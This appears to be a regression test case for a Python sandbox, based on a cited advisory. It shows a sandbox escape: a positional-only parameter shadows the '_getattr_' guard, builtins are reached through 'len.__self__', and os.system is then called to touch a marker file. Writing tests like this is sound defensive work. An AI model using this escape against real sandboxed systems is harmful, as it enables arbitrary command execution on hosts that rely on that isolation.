# category: advisories
# signal: marker
# expect: compile
# tripwire: stops os.system
# source: GHSA-ffg3-p8fm-mjx2 (CVE-2026-55830): a positional-only parameter named like a guard shadows it
def walk(obj, _getattr_=getattr, /):
    return obj.__self__.__import__
walk(len)("os").system("touch {MARKER_PATH}")
